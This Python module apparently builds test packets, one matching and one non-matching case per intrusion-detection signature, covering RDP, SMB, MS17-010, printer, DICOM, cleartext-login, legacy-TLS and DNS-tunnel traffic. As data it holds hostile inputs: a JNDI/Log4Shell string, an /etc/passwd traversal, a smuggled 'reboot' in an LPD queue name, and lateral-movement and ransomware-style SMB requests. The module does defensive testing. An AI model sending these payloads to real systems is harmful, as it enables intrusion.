"""A case for and a case against each signature of signatures/rules.

A case is a list of steps of one connection: ("c", bytes) from the client, ("s", bytes) from the server. Each step
is one packet. Every case has hosts of its own, so that all of them fit into one capture.
"""
import struct
from dataclasses import dataclass


@dataclass
class Case:
    sid: int
    expected: bool
    port: int
    flows: list          # of lists of steps
    udp: bool = False


def utf16(text):
    return text.encode("utf-16-le")


def netbios(data):
    return struct.pack(">I", len(data)) + data


def smb2(command, body, status=0, response=False):
    header = (b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 1, status, command, 1, 1 if response else 0, 0, 1, 0, 0, 1)
              + bytes(16))
    assert len(header) == 64
    return netbios(header + body)


def tree_connect(path):
    name = utf16(path)
    return smb2(3, struct.pack("<HHHH", 9, 0, 72, len(name)) + name)


def create(name, access=0x12019f):
    raw = utf16(name)
    body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, access, 0, 7, 1, 0, 120, len(raw), 0, 0)
    return smb2(5, body + raw)


def set_info(information_class):
    name = utf16("x.locked")
    data = struct.pack("<B7xQI", 0, 0, len(name)) + name
    return smb2(17, struct.pack("<HBBIHHI", 33, 1, information_class, len(data), 96, 0, 0) + bytes(16) + data)


def session_setup_answer(status):
    return smb2(1, struct.pack("<HHHH", 9, 0, 72, 0), status, True)


def smb1(command, words=b"", data=b"", status=0, mid=64, flags=0x18):
    header = b"\xffSMB" + struct.pack("<BIBHHQHHHHH", command, status, flags, 0xc807, 0, 0, 0, 0, 0xfeff, 0, mid)
    assert len(header) == 32
    return netbios(header + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data)


def trans2(setup, command=0x32, name=b""):
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78, 1, 0, setup)
    return smb1(command, words, name + bytes(13))


def rdp_request(cookie=b"", protocols=None):
    tail = b"" if protocols is None else struct.pack("<BBHI", 1, 0, 8, protocols)
    x224 = b"\xe0\x00\x00\x00\x00\x00" + cookie + tail
    x224 = bytes([len(x224)]) + x224
    return b"\x03\x00" + struct.pack(">H", len(x224) + 4) + x224


def mstshash(name):
    return b"Cookie: mstshash=" + name + b"\r\n"


def mcs_connect(channel):
    body = b"\x02\xf0\x80\x7f\x65\x82\x01\x94" + bytes(60) + b"\x03\xc0" + struct.pack("<HI", 20, 1) + channel.ljust(8, b"\0") + bytes(4)
    return b"\x03\x00" + struct.pack(">H", len(body) + 4) + body


def dns(name, kind=1, flags=0x0100, ident=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", ident, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def client_hello(sni):
    name = sni.encode()
    ext = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    ext += struct.pack(">HHBBB", 43, 3, 2, 3, 4)
    body = b"\x03\x03" + bytes(range(32)) + b"\0" + struct.pack(">H", 4) + b"\x13\x01\xc0\x2f" + b"\x01\0" + struct.pack(">H", len(ext)) + ext
    hand = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hand)) + hand


def server_hello(version, cipher=0xc02f, session=32):
    body = struct.pack(">H", version) + bytes(range(32)) + bytes([session]) + bytes(session) + struct.pack(">HB", cipher, 0)
    hand = b"\x02" + struct.pack(">I", len(body))[1:] + body
    return b"\x16" + struct.pack(">HH", version, len(hand)) + hand


def http(line="GET / HTTP/1.1", **headers):
    text = line + "\r\nHost: device.example\r\n"
    text += "".join(f"{k.replace('_', '-')}: {v}\r\n" for k, v in headers.items())
    return (text + "\r\n").encode()


OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
SVCCTL = bytes.fromhex("81bb7a364498f135ad3298f038001003")
EPM = bytes.fromhex("0883afe11f5dc91191a408002b14a0fa")


def dce_bind(uuid):
    body = struct.pack("<HHIB3xHBB", 4280, 4280, 0, 1, 0, 1, 0) + uuid + struct.pack("<I", 2)
    body += bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)
    return b"\x05\x00\x0b\x03\x10\0\0\0" + struct.pack("<HHI", 16 + len(body), 0, 1) + body


def dce_request(opnum):
    body = struct.pack("<IHH", 24, 0, opnum) + bytes(24)
    return b"\x05\x00\x00\x03\x10\0\0\0" + struct.pack("<HHI", 16 + len(body), 0, 2) + body


def pipe_write(data):
    return smb2(9, struct.pack("<HHIQQQIIHHI", 49, 112, len(data), 0, 1, 1, 0, 0, 0, 0, 0) + data)


def snmp(community, pdu):
    inner = b"\x02\x01\x00\x04" + bytes([len(community)]) + community + bytes([pdu, 4]) + b"\x02\x01\x01\x05"
    return b"\x30" + bytes([len(inner)]) + inner


def ldap_bind(dn, password):
    auth = b"\x80" + bytes([len(password)]) + password
    op = b"\x02\x01\x03\x04" + bytes([len(dn)]) + dn + auth
    message = b"\x02\x01\x01\x60" + bytes([len(op)]) + op
    return b"\x30" + bytes([len(message)]) + message


def associate(called):
    body = b"\0\x01\0\0" + called.ljust(16) + b"MODALITY1".ljust(16) + bytes(32) + b"\x10\0\0\x151.2.840.10008.3.1.1.1"
    return b"\x01\0" + struct.pack(">I", len(body)) + body


def file_in_pdv(preamble):
    data = preamble.ljust(128, b"\0") + b"DICM" + bytes(40)
    return b"\x04\0" + struct.pack(">I", len(data) + 6) + struct.pack(">IBB", len(data) + 2, 1, 2) + data


CASES = []


def pair(sid, port, yes, no, udp=False):
    """yes and no: flows; a flow of bytes alone is one packet of the client."""
    def steps(flow):
        return [("c", s) if isinstance(s, bytes) else s for s in (flow if isinstance(flow, list) else [flow])]
    for expected, flows in ((True, yes), (False, no)):
        CASES.append(Case(sid, expected, port, [steps(f) for f in flows], udp))


def s(data):
    return ("s", data)


# RDP
pair(9000101, 3389, [rdp_request(protocols=3)] * 25, [rdp_request(protocols=3)] * 15)
pair(9000102, 3389, [rdp_request(mstshash(b"user%d" % i), 3) for i in range(15)],
     [rdp_request(mstshash(b"user%d" % i), 3) for i in range(8)])
pair(9000103, 3389, [rdp_request(mstshash(b"Administrator"), 3)], [rdp_request(mstshash(b"nurse7"), 3)])
pair(9000104, 3389, [rdp_request(protocols=0)], [rdp_request(protocols=3)])
pair(9000105, 13389, [rdp_request(mstshash(b"a"), 3)], [b"\x03\x00\x00\x0b\x06\xd0\0\0\0\0\0"])
pair(9000106, 3389, [[rdp_request(protocols=3), mcs_connect(b"MS_T120")]], [[rdp_request(protocols=3), mcs_connect(b"rdpdr")]])
# SMB
pair(9000201, 445, [tree_connect("\\\\pacs\\ADMIN$")], [tree_connect("\\\\pacs\\images")])
pair(9000202, 445, [tree_connect("\\\\pacs\\C$")], [tree_connect("\\\\pacs\\IPC$")])
pair(9000203, 445, [create("svcctl")], [create("srvsvc")])
pair(9000204, 445, [create("PSEXESVC.exe")], [create("report.exe")])
pair(9000205, 445, [], [pipe_write(dce_bind(EPM))])
pair(9000206, 445, [[pipe_write(dce_bind(SVCCTL)), pipe_write(dce_request(12))]],
     [[pipe_write(dce_bind(SVCCTL)), pipe_write(dce_request(6))], [pipe_write(dce_bind(EPM)), pipe_write(dce_request(12))]])
pair(9000207, 445, [create("atsvc")], [create("spoolss")])
pair(9000208, 445, [create("winreg")], [create("wkssvc")])
pair(9000209, 445, [[set_info(10)] * 60], [[set_info(4)] * 60, [set_info(10)] * 20])
pair(9000210, 445, [create("HOW_TO_RESTORE_FILES.txt")], [create("restored images.dcm")])
pair(9000211, 445, [[tree_connect("\\\\pacs\\ADMIN$"), create("temp\\a.exe")]],
     [[tree_connect("\\\\pacs\\images"), create("temp\\a.exe")], [tree_connect("\\\\pacs\\ADMIN$"), create("a.txt")]])
pair(9000212, 445, [[s(session_setup_answer(0xc000006d))] * 12], [[s(session_setup_answer(0xc000006d))] * 5 + [s(session_setup_answer(0))] * 9])
# MS17-010
pair(9000301, 445, [trans2(0x0e)], [trans2(0x05)])
pair(9000302, 445, [[s(smb1(0x32, status=0xc0000002, mid=81, flags=0x98))]], [[s(smb1(0x32, status=0xc0000002, mid=65, flags=0x98))]])
pair(9000303, 445, [], [smb1(0xa0, bytes(38))])
pair(9000304, 445, [[smb1(0xa0, bytes(38))] + [smb1(0x33, bytes(18), bytes(50))] * 12],
     [[smb1(0xa0, bytes(38))] + [smb1(0x33, bytes(18), bytes(50))] * 5, [smb1(0x33, bytes(18), bytes(50))] * 12])
pair(9000305, 445, [b"\x00\x00\xff\xf7\xfeSMB" + bytes(120)], [smb2(0, bytes(36))])
pair(9000306, 445, [netbios(b"\xfcSMB" + b"\xff\xff\xff\xff\x01\0\0\0\x10\0\0\0" + bytes(40))],
     [netbios(b"\xfcSMB" + b"\x40\0\0\0\x01\0\0\0\x10\0\0\0" + bytes(40))])
pair(9000307, 445, [trans2(0x23, 0x25, b"\\PIPE\\\0")], [trans2(0x26, 0x25, b"\\PIPE\\\0")])
# Devices
pair(9000401, 9100, [b"\x1b%-12345X@PJL FSUPLOAD NAME=\"0:/x\" OFFSET=0 SIZE=99\r\n"], [b"\x1b%-12345X@PJL JOB NAME=\"report\"\r\n"])
pair(9000402, 9100, [b"@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME=\"0:/x\"\r\n"], [b"@PJL SET COPIES=2\r\n"])
pair(9000403, 9100, [b"@PJL FSDIRLIST NAME=\"0:/\" ENTRY=1 COUNT=99\r\n"], [b"@PJL INFO STATUS\r\n"])
pair(9000404, 9100, [b"@PJL FSQUERY NAME=\"0:/../../etc\"\r\n"], [b"@PJL FSQUERY NAME=\"0:/fonts/a..b\"\r\n"])
pair(9000405, 9100, [b"@PJL RNVRAM ADDRESS=0\r\n"], [b"@PJL INFO MEMORY\r\n"])
pair(9000406, 9100, [b"@PJL COMMENT\r\n@PJL UPGRADE SIZE=4711\r\n"], [b"@PJL COMMENT\r\n@PJL ENTER LANGUAGE=PCL\r\n"])
pair(9000407, 515, [b"\x02queue;reboot\n"], [b"\x02queue1\n"])
pair(9000408, 104, [associate(b"ANY-SCP")], [associate(b"PACS1")])
pair(9000409, 104, [file_in_pdv(b"MZ\x90\0")], [file_in_pdv(b"")])
pair(9000410, 80, [[http(X_Api="${jndi:ldap://x/a}"), s(OK)]], [[http(X_Api="jndi"), s(OK)]])
pair(9000411, 80, [[http("GET /a/../../../etc/passwd HTTP/1.1"), s(OK)]], [[http("GET /a/../b HTTP/1.1"), s(OK)]])
pair(9000412, 69, [b"\x00\x01running-config\0octet\0"], [b"\x00\x01phone7.xml\0octet\0"], udp=True)
# Clear text
pair(9000501, 21, [[s(b"220 ready\r\n"), b"USER nurse\r\n", s(b"331 ?\r\n"), b"PASS secret1\r\n"]],
     [[s(b"220 ready\r\n"), b"USER anonymous\r\n", s(b"331 ?\r\n"), b"PASS anonymous\r\n"]])
pair(9000502, 23, [[s(b"\r\nPassword: ")]], [[s(b"\r\nwelcome\r\n")]])
pair(9000503, 80, [[http(Authorization="Basic bnVyc2U6eA=="), s(OK)]], [[http(Authorization="Bearer abc"), s(OK)]])
pair(9000504, 161, [snmp(b"public", 0xa0)], [snmp(b"s3cr3tXY", 0xa0)], udp=True)
pair(9000505, 161, [snmp(b"private", 0xa3)], [snmp(b"private", 0xa0)], udp=True)
pair(9000506, 110, [[s(b"+OK\r\n"), b"USER a\r\n", s(b"+OK\r\n"), b"PASS b\r\n"]], [[s(b"+OK\r\n"), b"STLS\r\n"]])
pair(9000507, 143, [[s(b"* OK\r\n"), b"a1 LOGIN nurse secret\r\n"]], [[s(b"* OK\r\n"), b"a1 STARTTLS\r\n"]])
pair(9000508, 389, [ldap_bind(b"cn=nurse,dc=x", b"secret")], [ldap_bind(b"", b"")])
pair(9000509, 513, [b"\0root\0root\0xterm/9600\0"], [b"hello"])
# Legacy
pair(9000601, 445, [smb1(0x72, b"", b"\x02NT LM 0.12\0")], [smb2(0, bytes(36))])
pair(9000602, 445, [[smb1(0x72, b"", b"\x02NT LM 0.12\0"), s(smb1(0x72, struct.pack("<H", 0) + bytes(32), flags=0x98))]],
     [[smb1(0x72, b"", b"\x02NT LM 0.12\0"), s(smb1(0x72, b"\xff\xff", flags=0x98))]])
pair(9000603, 443, [[client_hello("a.example"), s(server_hello(0x0300))]], [[client_hello("a.example"), s(server_hello(0x0303))]])
pair(9000604, 443, [[client_hello("a.example"), s(server_hello(0x0301))]], [[client_hello("a.example"), s(server_hello(0x0303))]])
pair(9000605, 443, [[client_hello("a.example"), s(server_hello(0x0302))]], [[client_hello("a.example"), s(server_hello(0x0303))]])
pair(9000606, 23, [[s(b"\xff\xfd\x18"), b"\xff\xfb\x18"]], [[s(b"hello"), b"hello"]])
pair(9000607, 22, [[s(b"SSH-1.5-old\r\n"), b"SSH-1.5-c\r\n"]], [[s(b"SSH-1.99-x\r\n"), b"SSH-2.0-c\r\n"], [s(b"SSH-2.0-x\r\n"), b"SSH-2.0-c\r\n"]])
pair(9000608, 443, [[client_hello("a.example"), s(server_hello(0x0303, 0x0005))], [client_hello("b.example"), s(server_hello(0x0303, 0x0003, 0))]],
     [[client_hello("a.example"), s(server_hello(0x0303, 0xc02f))]])
# Remote control
for sid, yes, no in ((9000701, "router7.teamviewer.com", "teamviewer.com.example"), (9000702, "relay-1.net.anydesk.com", "notanydesk.com"),
                     (9000703, "x.screenconnect.com", "screenconnect.example"), (9000704, "st2.splashtop.com", "splashtop.org"),
                     (9000705, "logmein.com", "logmein.com.example"), (9000807, "dns.google", "dns.google.example")):
    pair(sid, 443, [[client_hello(yes), s(server_hello(0x0303))]], [[client_hello(no), s(server_hello(0x0303))]])
for sid, yes, no in ((9000706, "boot.net.anydesk.com", "anydesk.example"), (9000707, "rs-ny.rustdesk.com", "rustdesk.example"),
                     (9000708, "ab12.ngrok.io", "ngrok.example"), (9000709, "region1.v2.argotunnel.com", "tunnel.example"),
                     (9000804, "dnscat.0a1b2c.example", "cat.example")):
    pair(sid, 53, [dns(yes)], [dns(no)], udp=True)
pair(9000710, 5900, [[s(b"RFB 003.008\n")]], [[s(b"HELLO\n")]])
pair(9000711, 5938, [b"\x17\x24\x0a\x20\0\0"], [b"\x16\x03\x01\0\0\0"])
pair(9000712, 5900, [[s(b"RFB 003.008\n"), b"RFB 003.003\n", s(b"\0\0\0\x01")]],
     [[s(b"RFB 003.008\n"), b"RFB 003.003\n", s(b"\0\0\0\x02" + bytes(16))]])
pair(9000713, 5900, [], [[s(b"RFB 003.008\n"), b"RFB 003.003\n"]])
# DNS tunnels
LONG = "a1b2c3d4e5" * 6
pair(9000801, 53, [dns(f"{LONG}.{i}.example") for i in range(6)], [dns(f"www{i}.example") for i in range(6)], udp=True)
pair(9000802, 53, [dns(f"{i}.example", 16) for i in range(55)], [dns(f"{i}.example", 16) for i in range(30)], udp=True)
pair(9000803, 53, [dns(f"{i}.example", 10) for i in range(6)], [dns(f"{i}.example", 1) for i in range(6)], udp=True)
pair(9000805, 53, [dns(".".join([LONG[:45]] * 4) + f".{i}.example") for i in range(6)], [dns(f"{LONG}.{i}.example") for i in range(6)], udp=True)
pair(9000806, 53, [[dns(f"{i}.example"), s(dns(f"{i}.example", flags=0x8183))] for i in range(110)],
     [[dns(f"{i}.example"), s(dns(f"{i}.example", flags=0x8180))] for i in range(110)], udp=True)
